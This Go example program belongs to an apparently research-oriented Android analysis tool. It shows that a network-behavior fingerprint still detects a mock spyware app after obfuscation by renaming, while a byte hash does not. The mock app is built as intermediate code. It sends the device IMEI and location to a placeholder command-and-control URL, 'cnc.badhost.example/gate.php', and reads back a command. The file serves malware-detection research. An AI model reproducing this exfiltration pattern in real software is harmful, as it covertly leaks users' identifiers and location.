// Fingerprint: the §2 security motivation. Signature-based malware
// detection over binary patterns is defeated by trivial repackaging
// (identifier renaming, instruction reordering). Extractocol's network
// behavior fingerprint — the set of request signatures and their
// dependencies — survives repackaging, because the protocol the malware
// speaks to its command-and-control server cannot change without breaking
// the malware.
//
// This example builds a spyware-like app, detects it by network behavior,
// then repackages it (ProGuard-style renaming) and shows that the byte
// fingerprint breaks while the network fingerprint still matches.
//
//	go run ./examples/fingerprint
package main

import (
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"extractocol/internal/core"
	"extractocol/internal/dex"
	"extractocol/internal/ir"
	"extractocol/internal/obfuscate"
	"extractocol/internal/siglang"
)

// buildSpyware authors an app that reads the device ID and location and
// exfiltrates them to a command-and-control host.
func buildSpyware() *ir.Program {
	p := ir.NewProgram("com.innocent.flashlight")
	c := p.AddClass(&ir.Class{Name: "com.innocent.flashlight.Sync"})
	b := ir.NewMethod(c, "onCreate", false, nil, "void")
	tm := b.New("android.telephony.TelephonyManager")
	imei := b.Invoke("android.telephony.TelephonyManager.getDeviceId", tm)
	loc := b.New("android.location.Location")
	lat := b.Invoke("android.location.Location.getLatitude", loc)
	sb := b.New("java.lang.StringBuilder")
	b.InvokeSpecial("java.lang.StringBuilder.<init>", sb)
	s1 := b.ConstStr("imei=")
	b.InvokeVoid("java.lang.StringBuilder.append", sb, s1)
	b.InvokeVoid("java.lang.StringBuilder.append", sb, imei)
	s2 := b.ConstStr("&lat=")
	b.InvokeVoid("java.lang.StringBuilder.append", sb, s2)
	b.InvokeVoid("java.lang.StringBuilder.append", sb, lat)
	body := b.Invoke("java.lang.StringBuilder.toString", sb)
	ent := b.New("org.apache.http.entity.StringEntity")
	b.InvokeSpecial("org.apache.http.entity.StringEntity.<init>", ent, body)
	u := b.ConstStr("http://cnc.badhost.example/gate.php")
	req := b.New("org.apache.http.client.methods.HttpPost")
	b.InvokeSpecial("org.apache.http.client.methods.HttpPost.<init>", req, u)
	b.InvokeVoid("org.apache.http.client.methods.HttpPost.setEntity", req, ent)
	cl := b.New("org.apache.http.impl.client.DefaultHttpClient")
	b.InvokeSpecial("org.apache.http.impl.client.DefaultHttpClient.<init>", cl)
	resp := b.Invoke("org.apache.http.client.HttpClient.execute", cl, req)
	ent2 := b.Invoke("org.apache.http.HttpResponse.getEntity", resp)
	raw := b.InvokeStatic("org.apache.http.util.EntityUtils.toString", ent2)
	js := b.InvokeStatic("org.json.JSONObject.parse", raw)
	k := b.ConstStr("cmd")
	b.Invoke("org.json.JSONObject.getString", js, k)
	b.ReturnVoid()
	b.Done()
	p.Manifest.EntryPoints = []ir.EntryPoint{{Method: c.Name + ".onCreate", Kind: ir.EventCreate}}
	return p
}

// networkFingerprint derives the behavior fingerprint: sorted request
// signatures plus observed sources.
func networkFingerprint(p *ir.Program) (string, error) {
	rep, err := core.Analyze(p, core.NewOptions())
	if err != nil {
		return "", err
	}
	var sigs []string
	for _, tx := range rep.Transactions {
		line := tx.Request.Method + " " + siglang.Canon(tx.Request.URI) +
			" body:" + siglang.Canon(tx.Request.Body) +
			" sources:" + strings.Join(tx.Sources, "+")
		sigs = append(sigs, line)
	}
	sort.Strings(sigs)
	return strings.Join(sigs, "\n"), nil
}

func byteFingerprint(p *ir.Program) (string, error) {
	data, err := dex.Encode(p)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("%x", sha256.Sum256(data)), nil
}

func main() {
	if err := run(os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(w io.Writer) error {
	original := buildSpyware()
	knownBytes, err := byteFingerprint(original)
	if err != nil {
		return err
	}
	knownNet, err := networkFingerprint(original)
	if err != nil {
		return err
	}
	fmt.Fprintln(w, "known malware byte fingerprint:   ", knownBytes[:16]+"...")
	fmt.Fprintln(w, "known malware network fingerprint:")
	for _, l := range strings.Split(knownNet, "\n") {
		fmt.Fprintln(w, "   ", l)
	}

	// The attacker repackages: rename everything.
	variant := buildSpyware()
	obfuscate.Apply(variant)

	vBytes, err := byteFingerprint(variant)
	if err != nil {
		return err
	}
	vNet, err := networkFingerprint(variant)
	if err != nil {
		return err
	}

	fmt.Fprintln(w, "\nafter repackaging (ProGuard-style renaming):")
	fmt.Fprintf(w, "  byte fingerprint match:    %v\n", vBytes == knownBytes)
	fmt.Fprintf(w, "  network fingerprint match: %v\n", vNet == knownNet)
	if vBytes == knownBytes {
		return fmt.Errorf("unexpected: repackaging did not change the bytes")
	}
	if vNet != knownNet {
		return fmt.Errorf("network fingerprint should survive repackaging")
	}
	fmt.Fprintln(w, "\nthe variant evades byte signatures but is caught by its protocol behavior:")
	fmt.Fprintln(w, "  POST to cnc.badhost.example carrying device-ID and location data")
	return nil
}
